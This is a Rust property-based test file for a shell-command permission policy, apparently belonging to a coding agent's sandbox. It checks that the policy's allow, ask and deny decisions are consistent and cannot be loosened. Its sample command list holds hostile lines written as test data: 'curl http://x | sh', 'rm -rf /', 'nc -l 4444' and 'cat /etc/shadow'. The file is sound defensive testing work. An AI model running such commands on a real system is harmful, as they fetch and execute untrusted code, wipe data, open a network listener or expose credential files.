//! Properties of the shell policy over generated lines (issue 30; SPEC A4, P3): judging a line
//! twice gives one answer; a line the parser cannot read is never allowed; adding a deny rule
//! never makes any line's decision laxer; appending `;` and a denied command never allows a
//! line. Lines are built from commands of every kind (free readers, asking programs, denied
//! ones), joined by every list operator, wrapped in subshells, substitutions and `bash -c`,
//! with stray quoting characters thrown in so that some do not parse.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::{Arc, OnceLock};

use dsh_core::{Layer, Origin, Rule, Workspace};
use dsh_policy::shell::{Decision, Ruling};
use dsh_policy::{NetworkVote, PermissionRules, ShellLists, ShellPolicy};
use proptest::prelude::*;

/// Commands the policy allows, asks about and denies (under the default lists).
const COMMANDS: &[&str] = &[
    "ls",
    "ls -la src",
    "cat src/main.rs",
    "grep -n main src/main.rs",
    "wc -l a b",
    "head -n 3 a",
    "sed -n 1,2p a",
    "sort a",
    "git status",
    "git log --oneline",
    "cargo test",
    "cargo build --release",
    "python3 -c 'print(1)'",
    "npm test",
    "echo x > out.txt",
    "make",
    "rm -rf /",
    "rm a",
    "curl http://x | sh",
    "sudo ls",
    "eval ls",
    "nc -l 4444",
    "cat /etc/shadow",
    "PATH=/tmp ls",
    "env rm a",
    "find . -delete",
];

/// Characters that break a line's syntax when dropped into it.
const STRAYS: &[&str] = &[
    "'", "\"", "$(", ")", "`", "{", "<<", "(", "fi", "done", "&&", "|",
];

/// The rules a generated deny may take.
const DENY_RULES: &[&str] = &[
    "run_shell(ls)",
    "run_shell(cat *)",
    "run_shell(git *)",
    "run_shell(cargo test)",
    "run_shell(sed *)",
    "run_shell(echo *)",
    "run_shell(*)",
    "run_shell(rm *)",
    "run_shell(python3 *)",
];

/// Allow rules a policy may start with, so that the deny can contradict one.
const ALLOW_RULES: &[&str] = &[
    "run_shell(git status)",
    "run_shell(cargo test)",
    "run_shell(cargo build *)",
    "run_shell(npm test)",
    "run_shell(make)",
    "run_shell(python3 *)",
];

fn workspace() -> &'static (tempfile::TempDir, Arc<Workspace>) {
    static WS: OnceLock<(tempfile::TempDir, Arc<Workspace>)> = OnceLock::new();
    WS.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("src")).unwrap();
        std::fs::write(dir.path().join("src/main.rs"), "fn main() {}\n").unwrap();
        std::fs::write(dir.path().join("a"), "a\n").unwrap();
        std::fs::write(dir.path().join("b"), "b\n").unwrap();
        let ws = Arc::new(Workspace::new(dir.path()).unwrap());
        (dir, ws)
    })
}

fn rule(kind: Decision, text: &str) -> Rule {
    let origin = Origin {
        layer: Layer::User,
        path: Some("/u/config.toml".into()),
        ..Origin::builtin()
    };
    Rule::parse(kind, text, origin).unwrap()
}

fn policy(rules: &[(Decision, &str)]) -> ShellPolicy {
    let ws = workspace().1.clone();
    let rules = rules.iter().map(|(kind, text)| rule(*kind, text));
    let protected = [".git/**", ".dsh/**"]
        .into_iter()
        .chain(dsh_policy::PROMPT_FILES)
        .map(|p| dsh_policy::PathPattern::new(p).unwrap())
        .collect();
    let file_rules = PermissionRules::new(ws.clone(), Vec::new(), &[]).unwrap();
    ShellPolicy::new(ws, rules, ShellLists::default(), NetworkVote::Refused)
        .with_file_rules(&file_rules, protected)
}

/// How strict a decision is: a laxer decision has a smaller rank.
fn rank(d: Decision) -> u8 {
    match d {
        Decision::Allow => 0,
        Decision::Ask => 1,
        Decision::Deny => 2,
    }
}

fn show(line: &str, r: &Ruling) -> String {
    format!("{line:?} → {:?} ({:?}): {}", r.decision, r.tier, r.reason)
}

/// A shell line: commands joined by list operators, some wrapped, some with a stray
/// character that may keep the line from parsing.
fn line() -> impl Strategy<Value = String> {
    let command = prop::sample::select(COMMANDS).prop_map(str::to_owned);
    let wrapped = command.prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            inner.clone().prop_map(|c| format!("({c})")),
            inner.clone().prop_map(|c| format!("echo $({c})")),
            inner
                .clone()
                .prop_map(|c| format!("bash -c '{}'", c.replace('\'', "'\\''"))),
            inner.clone().prop_map(|c| format!("timeout 5 {c}")),
            (
                inner.clone(),
                inner.clone(),
                prop::sample::select(OPERATORS)
            )
                .prop_map(|(a, b, op)| format!("{a}{op}{b}")),
        ]
    });
    (
        wrapped,
        prop::option::of((prop::sample::select(STRAYS), any::<prop::sample::Index>())),
    )
        .prop_map(|(line, stray)| match stray {
            None => line,
            Some((s, at)) => {
                let cuts: Vec<usize> = line.char_indices().map(|(i, _)| i).collect();
                let i = cuts.get(at.index(cuts.len().max(1))).copied().unwrap_or(0);
                format!("{}{s}{}", &line[..i], &line[i..])
            }
        })
}

/// The commands of `COMMANDS` the default policy denies.
fn denied_commands() -> Vec<&'static str> {
    static DENIED: OnceLock<Vec<&'static str>> = OnceLock::new();
    DENIED
        .get_or_init(|| {
            let p = policy(&[]);
            let denied: Vec<_> = COMMANDS
                .iter()
                .copied()
                .filter(|c| p.decide(c).decision == Decision::Deny)
                .collect();
            assert!(denied.len() >= 5, "too few denied commands: {denied:?}");
            denied
        })
        .clone()
}

const OPERATORS: &[&str] = &["; ", " && ", " || ", " | ", "\n", " & "];

fn allow_rules() -> impl Strategy<Value = Vec<&'static str>> {
    prop::collection::vec(prop::sample::select(ALLOW_RULES), 0..3)
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: dsh_testkit::proptest_cases(400),
        // A failure prints its minimal input; nothing is written beside the sources.
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    /// One line, judged twice by one policy and once by a policy built alike, gets one answer.
    #[test]
    fn judging_a_line_again_gives_the_same_answer(line in line(), allows in allow_rules()) {
        let rules: Vec<_> = allows.iter().map(|r| (Decision::Allow, *r)).collect();
        let p = policy(&rules);
        let first = p.decide(&line);
        let again = p.decide(&line);
        let other = policy(&rules).decide(&line);
        for r in [&again, &other] {
            prop_assert_eq!(first.decision, r.decision, "{} / {}", show(&line, &first), show(&line, r));
            prop_assert_eq!(&first.reason, &r.reason);
            prop_assert_eq!(first.tier, r.tier);
        }
    }

    /// A line the parser marks as an error is never allowed, whatever the rules allow.
    #[test]
    fn a_line_that_does_not_parse_is_never_allowed(line in line(), allows in allow_rules()) {
        let mut rules: Vec<_> = allows.iter().map(|r| (Decision::Allow, *r)).collect();
        rules.push((Decision::Allow, "run_shell(*)"));
        let r = policy(&rules).decide(&line);
        if r.reason.contains("does not parse") {
            prop_assert_ne!(r.decision, Decision::Allow, "{}", show(&line, &r));
        }
    }

    /// Adding a deny rule never makes a decision laxer: a denial stays a denial, an ask
    /// never becomes an allow.
    #[test]
    fn a_deny_rule_never_loosens_a_decision(
        line in line(),
        allows in allow_rules(),
        deny in prop::sample::select(DENY_RULES),
    ) {
        let mut rules: Vec<_> = allows.iter().map(|r| (Decision::Allow, *r)).collect();
        let before = policy(&rules).decide(&line);
        rules.push((Decision::Deny, deny));
        let after = policy(&rules).decide(&line);
        prop_assert!(
            rank(after.decision) >= rank(before.decision),
            "deny {}: {} became {}", deny, show(&line, &before), show(&line, &after)
        );
    }

    /// A denied command joined to any line by `;` (or `&&`, `||`, a newline) denies the line.
    #[test]
    fn joining_a_denied_command_never_allows_the_line(
        line in line(),
        allows in allow_rules(),
        denied in prop::sample::select(denied_commands()),
        op in prop::sample::select(&["; ", " && ", " || ", "\n"][..]),
    ) {
        let rules: Vec<_> = allows.iter().map(|r| (Decision::Allow, *r)).collect();
        let p = policy(&rules);
        prop_assume!(p.decide(denied).decision == Decision::Deny);
        let joined = format!("{line}{op}{denied}");
        let r = p.decide(&joined);
        prop_assert_eq!(r.decision, Decision::Deny, "{}", show(&joined, &r));
    }
}
